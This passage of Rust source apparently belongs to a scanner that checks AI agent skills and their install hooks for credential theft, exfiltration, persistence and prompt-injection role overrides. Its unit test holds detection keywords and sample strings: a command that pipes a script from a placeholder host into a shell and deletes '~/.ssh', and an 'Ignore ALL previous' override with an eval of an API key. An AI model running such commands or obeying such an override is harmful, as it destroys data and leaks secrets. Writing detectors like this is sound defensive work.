                    format!(", and the install hook {by} runs it: it runs on the user's machine when the skill is installed."),
                ),
                Some((by, false)) => (
                    def,
                    format!(", and {by} names it: it runs when the skill is used."),
                ),
                None => {
                    let sits = capabilities::carried(Some(&path))
                        .map(|w| format!(" It sits among {w}."))
                        .unwrap_or_default();
                    (
                        Severity::Low.min(def),
                        format!(
                            ". Weighed as low instead of {def}: nothing in the skill invokes it (no SKILL.md instruction, script, manifest or install hook names it), so it is carried rather than run.{sits} It still cannot be read (see scan.incomplete)."
                        ),
                    )
                }
            };
            out.extend(self.binary_finding(&path, kind, Some(severity), &why));
        }
        keep_within_scan_caps(&mut self.report, &mut self.per_rule, out);
    }

    /// Context lowers, never hides, and never lowers what runs: a carried file (a test, a
    /// fixture, documentation) that SKILL.md or an install hook invokes gets its findings'
    /// weight back, with the reason.
    fn restore_invoked(&mut self) {
        if self.lowered.is_empty() {
            return;
        }
        let lowered = std::mem::take(&mut self.lowered);
        let mut by: HashMap<String, Option<&'static str>> = HashMap::new();
        for f in &mut self.report.findings {
            let Some(path) = f.path.as_deref() else {
                continue;
            };
            let Some((_, _, _, severity, message)) = lowered
                .iter()
                .find(|l| l.0 == path && l.1 == f.rule_id && l.2 == f.line)
            else {
                continue;
            };
            if *severity <= f.severity {
                continue;
            }
            let who = by
                .entry(path.to_string())
                .or_insert_with(|| {
                    self.capabilities.invoked(path).map(|install| {
                        if install {
                            "an install hook"
                        } else {
                            "SKILL.md"
                        }
                    })
                })
                .to_owned();
            let Some(who) = who else { continue };
            let why = capabilities::carried(Some(path)).unwrap_or("carried material");
            f.message = format!(
                "{} Kept at {severity}: the file sits among {why}, but {who} runs it.",
                message.trim_end()
            );
            f.severity = *severity;
        }
    }

    fn oversized(
        &mut self,
        path: &str,
        head: &[u8],
        rest: &mut dyn std::io::Read,
    ) -> std::io::Result<()> {
        match classify(head) {
            Kind::Text => {}
            Kind::Utf16(_) => {
                self.report.stats.files_skipped += 1;
                self.coverage.note(Gap::Oversized, path, "UTF-16, not read");
                return Ok(());
            }
            kind => {
                self.not_text(path, head, kind);
                return Ok(());
            }
        }
        self.report.stats.files_skipped += 1;
        let partial =
            self.scanner
                .scan_partial(Some(path), head, rest, &self.limits, self.windows_left)?;
        self.windows_left = self
            .windows_left
            .saturating_sub(usize::try_from(partial.windows).unwrap_or(usize::MAX));
        self.report.stats.bytes_scanned += partial.bytes_scanned;
        self.report.stats.findings_truncated += partial.truncated;
        self.coverage.windows_dropped += partial.windows_dropped;
        self.coverage
            .note(Gap::Oversized, path, size(partial.total_bytes));
        keep_within_scan_caps(&mut self.report, &mut self.per_rule, partial.findings);
        Ok(())
    }

    /// A file past the count limit: counted, and given the keyword pass within a budget
    /// (files whose names matter have their own, larger budget).
    fn past_count(&mut self, path: &str, bytes: &[u8]) {
        self.report.stats.files_skipped += 1;
        self.coverage.note(Gap::PastCount, path, "");
        let budget = if name_matters(path) {
            &mut self.past_budget_named
        } else {
            &mut self.past_budget_other
        };
        let len = bytes.len() as u64;
        if !matches!(classify(bytes), Kind::Text) || *budget < len || self.windows_left == 0 {
            self.coverage.past_count_unread += 1;
            return;
        }
        *budget -= len;
        self.coverage.past_count_passed += 1;
        let partial = self.indicator_lines(path, bytes);
        self.coverage.past_windows_dropped += partial.windows_dropped;
        self.report.stats.bytes_scanned += partial.bytes_scanned;
        self.report.stats.findings_truncated += partial.truncated;
        keep_within_scan_caps(&mut self.report, &mut self.per_rule, partial.findings);
    }

    /// The report, with the scan's duration; `scan.incomplete` findings come first.
    pub fn finish(mut self) -> ScanReport {
        self.restore_invoked();
        self.weigh_binaries();
        let scanner = self.scanner;
        let (inventory, combos) =
            std::mem::take(&mut self.capabilities).finish(&|t: &str| scanner.shown(t));
        self.report.stats.inventory = inventory;
        keep_within_scan_caps(&mut self.report, &mut self.per_rule, combos);
        let mut findings = self.coverage.findings(&self.limits);
        findings.append(&mut self.report.findings);
        self.report.findings = findings;
        self.report.stats.duration_ms =
            u64::try_from(self.started.elapsed().as_millis()).unwrap_or(u64::MAX);
        self.report
    }
}

/// True when `s` holds a character the matching view rewrites that is not typography: a
/// look-alike, decorated or full-width letter or sign, a combining mark or a hidden character.
/// An ellipsis, curly quotes, dashes or a no-break space in a matched line spell nothing in
/// disguise (`subprocess.run([…], shell=True)` in prose is not a disguised call).
fn disguises(s: &str) -> bool {
    s.chars().any(|c| {
        !c.is_ascii()
            && !matches!(
                c,
                '\u{00A0}'
                    | '\u{00AB}'
                    | '\u{00B7}'
                    | '\u{00BB}'
                    | '\u{2010}'..='\u{2015}'
                    | '\u{2018}'..='\u{201F}'
                    | '\u{2022}'
                    | '\u{2026}'
                    | '\u{202F}'
                    | '\u{2190}'..='\u{2193}'
            )
    })
}

/// Adds `findings` to `report` within the per-scan caps, counting what is left out.
fn keep_within_scan_caps(
    report: &mut ScanReport,
    per_rule: &mut HashMap<String, usize>,
    findings: Vec<Finding>,
) {
    for finding in findings {
        let n = per_rule.entry(finding.rule_id.clone()).or_insert(0);
        if *n >= MAX_PER_RULE_PER_SCAN || report.findings.len() >= MAX_PER_SCAN {
            report.stats.findings_truncated += 1;
            continue;
        }
        *n += 1;
        report.findings.push(finding);
    }
}

/// Why a filter lowered a rule's severity.
fn lowered_reason(id: &str) -> &'static str {
    match id {
        "exfil.credential-file" | "tool.sensitive-file-instruction" => {
            "the key is used (ssh-add, ssh -i, IdentityFile), named in documentation, or is the keychain item the same file stores itself, not read or sent"
        }
        "pi.role-override" => {
            "the mode is a setting a device has (a phone's, TV's or emulator's developer mode), not a persona declared to the model"
        }
        "exfil.webhook-endpoint" => {
            "the bot or webhook token is a variable (the user's own bot), not a hard-coded sink"
        }
        "exfil.secret-post" => {
            "the credential is read under its service's name and sent to that service's host"
        }
        "exfil.markdown-image-beacon" | "exfil.markdown-link-beacon" => {
            "every placeholder of the URL names the resource (owner, repository, number, version), not data to be sent"
        }
        "secret.stripe-key" => "a test-mode key",
        "persist.windows-autorun" => {
            "the Run key is only named or read: no registry write in the file targets it"
        }
        id if id.starts_with("exec.") || id.starts_with("url.") => {
            "the script comes from a well-known vendor installer (a vendor's host, a GitHub release installer or a project's own install script in its repository)"
        }
        _ => "context",
    }
}

/// `abcd…[REDACTED]`: keeps a short prefix so a reader can tell which credential it was.
pub(crate) fn redacted(secret: &str) -> String {
    if secret.contains("[REDACTED]") {
        return secret.to_string();
    }
    let prefix: String = secret.chars().take(4).collect();
    format!("{prefix}…[REDACTED]")
}

pub(crate) fn line_bounds(text: &str, pos: usize) -> (usize, usize) {
    let bytes = text.as_bytes();
    let pos = pos.min(bytes.len());
    let ls = memchr::memrchr(b'\n', bytes.get(..pos).unwrap_or(&[])).map_or(0, |i| i + 1);
    let le =
        memchr::memchr(b'\n', bytes.get(pos..).unwrap_or(&[])).map_or(bytes.len(), |i| pos + i);
    (ls, le)
}

/// One occurrence of a keyword.
#[derive(Debug, Clone, Copy)]
struct KeywordHit {
    pattern: usize,
    start: usize,
    end: usize,
}

/// Every occurrence of every keyword, overlapping, in order of where they end and, at one end,
/// in the automaton's order: what `AhoCorasick::find_overlapping_iter` reports, in a tighter
/// loop (the keyword pass walks every byte of every text, and keywords are rare).
struct KeywordHits<'a> {
    dfa: &'a DFA,
    bytes: &'a [u8],
    /// Bytes consumed.
    at: usize,
    sid: StateID,
    /// The next match to report in the current (match) state, 0 when none is pending.
    index: usize,
}

impl<'a> KeywordHits<'a> {
    fn new(dfa: &'a DFA, start: StateID, bytes: &'a [u8]) -> KeywordHits<'a> {
        KeywordHits {
            dfa,
            bytes,
            at: 0,
            sid: start,
            index: 0,
        }
    }

    fn hit(&self, index: usize) -> KeywordHit {
        let pid = self.dfa.match_pattern(self.sid, index);
        let len = self.dfa.pattern_len(pid);
        KeywordHit {
            pattern: pid.as_usize(),
            start: self.at.saturating_sub(len),
            end: self.at,
        }
    }
}

impl Iterator for KeywordHits<'_> {
    type Item = KeywordHit;

    fn next(&mut self) -> Option<KeywordHit> {
        let dfa = self.dfa;
        if self.index > 0 {
            if self.index < dfa.match_len(self.sid) {
                self.index += 1;
                return Some(self.hit(self.index - 1));
            }
            self.index = 0;
        }
        let mut sid = self.sid;
        let mut at = self.at;
        while let Some(&b) = self.bytes.get(at) {
            sid = dfa.next_state(Anchored::No, sid, b);
            at += 1;
            if dfa.is_special(sid) {
                if dfa.is_dead(sid) {
                    break;
                }
                if dfa.is_match(sid) {
                    self.sid = sid;
                    self.at = at;
                    self.index = 1;
                    return Some(self.hit(0));
                }
            }
        }
        self.sid = sid;
        self.at = self.bytes.len();
        None
    }
}

/// Bytes searched on each side of a keyword in lines longer than twice this.
const LONG_LINE_WINDOW: usize = 1024;

fn floor_boundary(s: &str, mut i: usize) -> usize {
    i = i.min(s.len());
    while i > 0 && !s.is_char_boundary(i) {
        i -= 1;
    }
    i
}

fn ceil_boundary(s: &str, mut i: usize) -> usize {
    i = i.min(s.len());
    while i < s.len() && !s.is_char_boundary(i) {
        i += 1;
    }
    i
}

fn next_boundary(s: &str, mut i: usize) -> usize {
    i += 1;
    while i < s.len() && !s.is_char_boundary(i) {
        i += 1;
    }
    i
}

/// A file is binary when its first 8 KiB hold a NUL byte.
pub fn is_binary(bytes: &[u8]) -> bool {
    let head = bytes.get(..bytes.len().min(8192)).unwrap_or(bytes);
    memchr::memchr(0, head).is_some() || executable_kind(bytes).is_some()
}

/// The kind of native executable, from its magic number.
pub(crate) fn executable_kind(bytes: &[u8]) -> Option<&'static str> {
    match bytes.get(..4)? {
        [0x7f, b'E', b'L', b'F'] => Some("ELF"),
        [b'M', b'Z', _, _] => {
            let off = bytes.get(0x3c..0x40)?;
            let off = u32::from_le_bytes([off[0], off[1], off[2], off[3]]) as usize;
            (bytes.get(off..off.checked_add(4)?)? == b"PE\0\0").then_some("PE (Windows)")
        }
        [0xfe, 0xed, 0xfa, 0xce | 0xcf] | [0xce | 0xcf, 0xfa, 0xed, 0xfe] => Some("Mach-O"),
        _ => None,
    }
}

#[cfg(test)]
mod keyword_hits_tests {
    use super::*;

    /// `KeywordHits` reports exactly what `find_overlapping_iter` reports on the same
    /// automaton: every occurrence, overlapping and nested ones included, in the same order.
    #[test]
    fn keyword_hits_match_the_overlapping_iterator() {
        let words = [
            "curl",
            "url",
            "ur",
            "://",
            "http",
            "https://",
            "os.environ",
            "environ",
            "env",
            "sk-",
            "api_key",
            "api key",
            "key",
            "rm -",
            "rm -rf",
            "|sh",
            "| sh",
            "~/.",
            "~/.ssh",
            "ssh",
            "never",
            "eval",
            "exec",
            "exec(",
            "x",
            "xx",
            "xxx",
            "ignore",
            "ignore all",
        ];
        let texts = [
            crate::eval::benchmark_text(64 * 1024),
            "CURL https://X.invalid/i.sh | SH; rm -rf ~/.ssh; xxxxx".to_string(),
            "Ignore ALL previous; eval(exec(os.environ['API_KEY']))\nsk-sk-sk-".to_string(),
            String::new(),
            "x".to_string(),
        ];
        let dfa = aho_corasick::dfa::Builder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::Standard)
            .prefilter(false)
            .build(words)
            .expect("keywords compile");
        let start = dfa.start_state(Anchored::No).expect("unanchored start");
        let reference = AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::Standard)
            .kind(Some(AhoCorasickKind::DFA))
            .build(words)
            .expect("keywords compile");
        for text in &texts {
            let ours: Vec<(usize, usize, usize)> = KeywordHits::new(&dfa, start, text.as_bytes())
                .map(|m| (m.pattern, m.start, m.end))
                .collect();
            let theirs: Vec<(usize, usize, usize)> = reference
                .find_overlapping_iter(text.as_str())
                .map(|m| (m.pattern().as_usize(), m.start(), m.end()))
                .collect();
            assert_eq!(ours, theirs, "{:?}", text.get(..80));
        }
        // Nested and overlapping occurrences are all there.
        let all: Vec<usize> = KeywordHits::new(&dfa, start, b"xxx")
            .map(|m| m.pattern)
            .collect();
        assert_eq!(all.len(), 6, "{all:?}");
    }
}
